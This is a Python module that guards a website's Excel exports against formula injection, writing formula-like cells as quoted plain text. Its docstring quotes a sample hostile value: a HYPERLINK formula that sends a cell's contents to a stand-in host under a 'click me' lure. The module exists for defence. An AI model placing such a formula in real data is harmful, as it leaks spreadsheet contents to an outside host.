"""Every .xlsx the site writes goes through ``workbook_bytes`` (formula injection, CWE-1236).

A cell whose text starts with ``=`` becomes a live formula in openpyxl, and a spreadsheet program
may also treat text starting with ``+``, ``-``, ``@``, a tab or a carriage return as the start of
a formula once someone edits the cell. An officer's name such as
``=HYPERLINK("http://x/?d="&A3,"点我")`` or a question stem starting with ``=`` must stay
exactly that text in the results export, the bank export and the roster template.

The approach: such a cell is written as a string cell (``data_type = "s"``, so no formula is
stored) with Excel's *quote prefix* style (``quotePrefix``, what Excel itself sets when a user
types ``'=...``), so it stays text when edited too. The visible value and the value a reader
such as openpyxl gets back are the original text, unchanged. That is why this is preferred over
prepending an apostrophe to the data (OWASP's advice for CSV): an apostrophe would become part
of the value, show up in the sheet, and break the bank export's promise that an export imports
again unchanged.

Pure Python (openpyxl only, no Django), so pure modules such as ``questions.bankfile`` use it.
"""

from __future__ import annotations

import io

__all__ = ["FORMULA_PREFIXES", "is_formula_like", "neutralise", "workbook_bytes"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    """True for text a spreadsheet program could read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def neutralise(workbook) -> int:
    """Make every formula-like text cell of ``workbook`` plain text; returns how many changed.

    The site never writes formulas on purpose, so every cell holding one came from data."""
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if is_formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    changed += 1
    return changed


def workbook_bytes(workbook) -> bytes:
    """The workbook as .xlsx bytes, after ``neutralise``. Use instead of ``workbook.save``."""
    neutralise(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
